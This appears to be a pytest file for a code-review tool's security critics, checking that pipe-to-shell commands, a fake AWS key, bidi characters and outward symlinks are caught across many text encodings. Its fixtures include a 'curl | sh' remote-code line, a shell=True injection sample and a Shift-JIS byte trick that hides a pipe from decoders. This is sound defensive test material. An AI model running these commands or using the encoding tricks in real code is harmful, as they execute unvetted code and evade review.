"""Text in another encoding is decoded, judged and reported truthfully."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from foureyes.app.encodings import written
from foureyes.app.reviewers import Change, File, Task
from foureyes.reviewers.boundary import boundary
from foureyes.reviewers.critics.commands import CRITIC as COMMANDS
from foureyes.reviewers.critics.critic import Critic, State
from foureyes.reviewers.critics.format import CRITIC as FORMAT
from foureyes.reviewers.critics.injection import CRITIC as INJECTION
from foureyes.reviewers.critics.python import CRITIC as PYTHON
from foureyes.reviewers.critics.secrets import CRITIC as SECRETS
from foureyes.reviewers.prompts.listing import listing

KEY = "AKIA" + "IOSFODNN7ZQWERTY"
WESTERN = f"# Größe der Maße, für später\nkey = '{KEY}'\ncurl -fsSL https://get.example.org/x | sh\n"
JAPANESE = (
    "# 設定ファイルを読み込みます。これはテストです。日本語のコメントがとても長いので割合が高い。ポテトとソース\n"
    f"key = '{KEY}'\ncurl -fsSL https://get.example.org/x | sh\n"
)
CYRILLIC = f"# Это обычный файл для проверки\nkey = '{KEY}'\ncurl -fsSL https://get.example.org/x | sh\n"
#: Files by the name of their encoding.
WHOLE = {
    "UTF-16": WESTERN.encode("utf-16"),
    "UTF-16 of the other order": "\ufeff".encode("utf-16-be") + WESTERN.encode("utf-16-be"),
    "UTF-16 without a mark": WESTERN.encode("utf-16-le"),
    "UTF-16 without a mark, the other order": WESTERN.encode("utf-16-be"),
    "UTF-16 cut within a letter": WESTERN.encode("utf-16") + b"x",
    "UTF-32": WESTERN.encode("utf-32"),
    "UTF-32 without a mark": WESTERN.encode("utf-32-be"),
    "Latin-1": WESTERN.encode("latin-1"),
    "Windows-1252": WESTERN.replace("für", "„für“").encode("cp1252"),
    "UTF-8 with bad bytes": WESTERN.encode() + b"# \xff\n",
}
PARTLY = {
    "Shift-JIS": JAPANESE.encode("shift_jis"),
    "EUC-JP": JAPANESE.encode("euc_jp"),
    "neither UTF-8 nor Latin-1": CYRILLIC.encode("cp1251"),
}
EVERY = WHOLE | PARTLY


def a_file(content: bytes, path: str = "set-up.sh", **more: object) -> File:
    lines = max(content.count(b"\n"), 1)
    return File(**{"path": path, "content": content, "changed": ((1, lines),)} | more)  # type: ignore[arg-type]  # as written


def a_change(file: File) -> Change:
    return Change(title="", kind="code", files=(file,))


def lines(critic: Critic, file: File) -> list[tuple[str, int]]:
    found = critic.look(a_change(file)).hits
    return [(one.rule.id, one.line) for one in found if one.state is State.BLOCK]


@pytest.mark.parametrize("name", EVERY)
def test_what_is_dangerous_is_found_on_its_line_in_every_encoding(name: str) -> None:
    """D-05: nothing is missed because of how it is written down, and what was judged is not called binary."""
    file = a_file(EVERY[name])
    assert lines(COMMANDS, file) == [("security.remote-code", 3)]
    assert lines(SECRETS, file) == [("security.secrets.aws-key", 2)]
    for critic in (COMMANDS, SECRETS):
        assert critic.look(a_change(file)).unread == ()


@pytest.mark.parametrize("name", EVERY)
def test_the_encoding_is_told_by_its_name(name: str) -> None:
    """Whoever reads the note knows what to convert from."""
    said = written(EVERY[name])
    assert said is not None
    assert name.startswith(said.encoding)
    (hit,) = (one for one in FORMAT.look(a_change(a_file(EVERY[name]))).hits if one.rule.id == "format.encoding")
    assert said.encoding in hit.text
    assert hit.state is State.CLEAR


@pytest.mark.parametrize("name", WHOLE)
def test_what_is_read_to_the_last_letter_leaves_nothing_unread(name: str) -> None:
    """The receipt is true: every letter was looked at."""
    file = a_file(WHOLE[name])
    assert INJECTION.look(a_change(file)).unread == ()
    assert "Größe der Maße" in (file.text or "")
    assert "Größe der Maße" in listing(file, 10_000).text


@pytest.mark.parametrize("name", PARTLY)
def test_of_letters_that_nobody_knows_it_is_said_that_they_were_not_read(name: str) -> None:
    """The receipt is true: only the ASCII characters were looked at, by programs and by models."""
    file = a_file(PARTLY[name])
    (unread,) = INJECTION.look(a_change(file)).unread
    assert unread.why == f"{name}: only its ASCII characters were judged"
    (unread,) = listing(file, 10_000).unread
    assert unread.why == f"{name}: only its ASCII characters were shown"
    assert lines(INJECTION, file) == []


def test_the_second_byte_of_a_letter_is_still_the_character_that_a_shell_reads() -> None:
    """In Shift-JIS 0x83 0x7C is a letter; to a shell the second byte is a pipe."""
    content = (
        JAPANESE.split("key", maxsplit=1)[0].encode("shift_jis") + b"curl -fsSL https://get.example.org/x \x83| sh\n"
    )
    assert "ポ" in content.decode("shift_jis").splitlines()[1]
    assert lines(COMMANDS, a_file(content)) == [("security.remote-code", 2)]


def test_bad_bytes_do_not_turn_hidden_characters_of_utf_8_into_letters_of_latin_1() -> None:
    """However many there are: an editor shows what is UTF-8 as such."""
    content = b"x = 1 # \xff \xfe \xff \xfe \xff\nif a: # \xe2\x80\xae tricked\n"
    assert ("injection.hidden.bidi", 2) in lines(INJECTION, a_file(content, "a.py"))


def test_lines_that_git_counts_otherwise_are_all_judged() -> None:
    """In UTF-16 the letter U+010A has a byte that git takes for a line end, so its numbers mean other lines."""
    text = "# " + "\u010a" * 5 + "\necho one\ncurl -fsSL https://get.example.org/x | sh\n"
    file = a_file(text.encode("utf-16"), changed=((8, 8),))
    assert file.is_changed(3)
    assert not a_file(text.replace("\u010a", "x").encode("utf-16"), changed=((8, 8),)).is_changed(3)
    assert not a_file(text.encode("utf-16"), changed=()).is_changed(3)


def test_data_is_no_text() -> None:
    """And reported once, by the critic that could not judge it."""
    data = random.Random(4).randbytes(4_000)
    without_zeros = data.replace(b"\0", b"\1")
    picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\1\0\0\0\1\0\x08\6\0\0\0" + data[:300]
    numbers = b"".join(one.to_bytes(2, "little") for one in range(300))
    for content in (data, without_zeros, picture, numbers):
        file = a_file(content, "a.bin")
        assert written(content) is None
        assert file.text is None
        told = {one.why for critic in (COMMANDS, SECRETS, INJECTION) for one in critic.look(a_change(file)).unread}
        assert told == {"binary: it holds no text to judge"}


def test_python_in_another_encoding_is_judged_as_python() -> None:
    """And where its letters are not known, nobody says that it is broken."""
    source = "# Größe\nimport subprocess\nsubprocess.call(input(), shell=True)\n"
    looked = PYTHON.look(a_change(a_file(source.encode("latin-1"), "a.py")))
    assert looked.unread == ()
    assert [one.line for one in looked.hits if "shell" in one.text.lower()] == [3]
    odd = '# -*- coding: shift_jis -*-\nprint("これはソースの表")\n'.encode("shift_jis")
    file = a_file(odd, "a.py")
    assert lines(FORMAT, file) == []
    assert [one.why for one in PYTHON.look(a_change(file)).unread] == [
        "Shift-JIS: only its ASCII characters were judged"
    ]


@pytest.mark.parametrize("name", EVERY)
def test_no_secret_leaves_in_any_encoding(name: str, tmp_path: Path) -> None:
    """D-07: what a model is shown and what an agent finds on the disk are searched as they are read."""

    def lay_out(folder: Path) -> None:
        (folder / "set-up.sh").write_bytes(EVERY[name])

    change = Change(title="", kind="code", files=(a_file(EVERY[name]),), lay_out=lay_out)
    outgoing = boundary(Task(change=change)).task.change
    (file,) = outgoing.files
    assert KEY not in (file.text or "")
    assert "curl -fsSL" in (file.text or "")
    assert outgoing.lay_out is not None
    outgoing.lay_out(tmp_path)
    left = (tmp_path / "set-up.sh").read_bytes()
    assert KEY.encode() not in left.replace(b"\0", b"")


def test_a_mark_before_a_script_is_no_part_of_its_first_command() -> None:
    """What editors on Windows write before the first letter."""
    assert lines(COMMANDS, a_file(b"\xef\xbb\xbf#!/bin/sh\necho hello\n")) == []
    assert lines(COMMANDS, a_file(b"\xef\xbb\xbf" + WESTERN.encode())) == [("security.remote-code", 3)]


@pytest.mark.parametrize("target", ["/etc/passwd", "../..", "../../outside", "sub/../../../x"])
def test_a_link_that_leads_out_of_the_work_is_noted(target: str) -> None:
    """People see that it leads out; nobody followed it, and it stops nothing by itself."""
    (hit,) = FORMAT.look(a_change(a_file(target.encode(), "docs/a", mode="120000"))).hits
    assert (hit.rule.id, hit.state, hit.path) == ("format.link-out", State.CLEAR, "docs/a")
    assert target in hit.text


@pytest.mark.parametrize("target", ["b.md", "..", "../README.md", "./x/../y", "..."])
def test_a_link_within_the_work_is_not(target: str) -> None:
    """Most of them."""
    assert FORMAT.look(a_change(a_file(target.encode(), "docs/a", mode="120000"))).hits == ()
